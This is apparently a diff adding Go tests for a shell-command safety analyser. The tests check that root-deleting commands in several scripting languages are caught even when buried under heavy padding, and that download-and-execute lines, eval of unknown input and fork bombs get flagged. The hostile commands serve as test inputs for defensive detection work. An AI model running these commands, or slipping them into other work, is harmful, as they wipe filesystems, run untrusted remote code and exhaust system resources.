@@ -1,0 +1,76 @@
+package code_test
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/metnos/vaglio/vaglio/shell"
+)
+
+// TestPadded puts what removes / behind much else: it is found, or the reading
+// says that it broke off.
+func TestPadded(t *testing.T) {
+	tail := map[string]string{
+		"python3": "import shutil;shutil.rmtree('/')", "perl": "system('rm -rf /');", "ruby": "system('rm -rf /')",
+		"node": "require('fs').rmSync('/',{recursive:true})", "php": "system('rm -rf /');", "lua": "os.execute('rm -rf /')",
+	}
+	rep := strings.Repeat
+	for lang, end := range tail {
+		one := "x=1\n"
+		if lang == "perl" || lang == "php" {
+			one = "$x=1;\n"
+		}
+		for name, pad := range map[string]string{
+			"few": rep(one, 2_000), "lines": rep(one, 28_000), "most": rep(one, 120_000), "brackets": "x=" + rep("(", 100_000) + "\n", "calls": rep("f(",
+				5_000) + rep(")", 5_000) + "\n",
+			"quote": "y = \"\n" + rep(one, 100), "lists": "x=[" + rep("1,", 30_000) + "]\n", "concat": "x=" + rep("'a'+", 30_000) + "'a'\n",
+			"strings": rep("'a'\n", 20_000),
+			"open":    rep("{", 3_000) + "\n", "functions": rep("def f(a): f(f(a))\n", 2_000), "doubles": "x='aaaa'\n" + rep("x=x+x\n", 60),
+			"regexps": "x=/" + rep("[/", 20_000) + "\n",
+			"names":   rep("a.b.c.d ", 20_000) + "\n", "ifs": rep("if a:\n", 2_000) + "\n", "templates": rep("`${", 3_000) + "\n",
+		} {
+			src := lang + " - <<'END'\n" + pad + end + "\nEND\n"
+			src = src[:min(len(src), shell.MaxSource)]
+			s := read(t, src)
+			if slices.ContainsFunc(s.Problems, func(p shell.Problem) bool { return p.Kind == shell.ProblemInternal }) {
+				t.Errorf("%s %s: %v", lang, name, s.Problems)
+			}
+			if len(s.Problems) == 0 && !slices.ContainsFunc(s.Commands, removesRoot) {
+				t.Errorf("%s %s: nothing found and nothing said: %.200s", lang, name, show(s))
+			}
+			if (name == "few" || name == "lines") && !slices.ContainsFunc(s.Commands, removesRoot) {
+				t.Errorf("%s %s: not found: %.200s", lang, name, show(s))
+			}
+		}
+	}
+}
+
+// TestUnknownRuns reads programs that run text which nobody knows.
+func TestUnknownRuns(t *testing.T) {
+	for src, want := range map[string]shell.ProblemKind{
+		`python3 -c "import os; os.system(input())"`:                                     shell.ProblemDynamicCode,
+		`python3 -c "import os,sys; os.system(sys.stdin.read())"`:                        shell.ProblemDynamicCode,
+		`python3 -c "exec(input())"`:                                                     shell.ProblemDynamicCode,
+		`python3 -c "import os; os.system('ls ' + input())"`:                             shell.ProblemPartialCode,
+		`python3 -c "import urllib.request as u; exec(u.urlopen('https://h/x').read())"`: shell.ProblemDownload,
+		`python3 -c "import requests; exec(requests.get('https://h/x').text)"`:           shell.ProblemDownload,
+		`node -e 'require("child_process").execSync(process.argv[9])'`:                   shell.ProblemDynamicCode,
+		`node -e 'fetch("https://h/x").then(r => r.text()).then(t => eval(t))'`:          shell.ProblemDownload,
+		`perl -e 'system(<STDIN>)'`:                                                      shell.ProblemDynamicCode,
+		`perl -e 'fork while 1'`:                                                         shell.ProblemForkBomb,
+		`ruby -e 'eval(gets)'`:                                                           shell.ProblemDynamicCode,
+		`ruby -e 'fork while fork'`:                                                      shell.ProblemForkBomb,
+		"python -c 'import os\nwhile True: os.fork()'":                                   shell.ProblemForkBomb,
+		`curl x | python3`:                                                               shell.ProblemDownload,
+		`php -r 'system($cmd);'`:                                                         shell.ProblemDynamicCode,
+		`awk '{ system($0) }' f`:                                                         shell.ProblemDynamicCode,
+		`lua -e 'os.execute(io.read())'`:                                                 shell.ProblemDynamicCode,
+		`cobolish -e 'x' ; brainrun`:                                                     "",
+	} {
+		s := read(t, src)
+		if want != "" && !slices.ContainsFunc(s.Problems, func(p shell.Problem) bool { return p.Kind == want }) {
+			t.Errorf("Read(%s) = %s, want %q", src, show(s), want)
+		}
+	}
+}
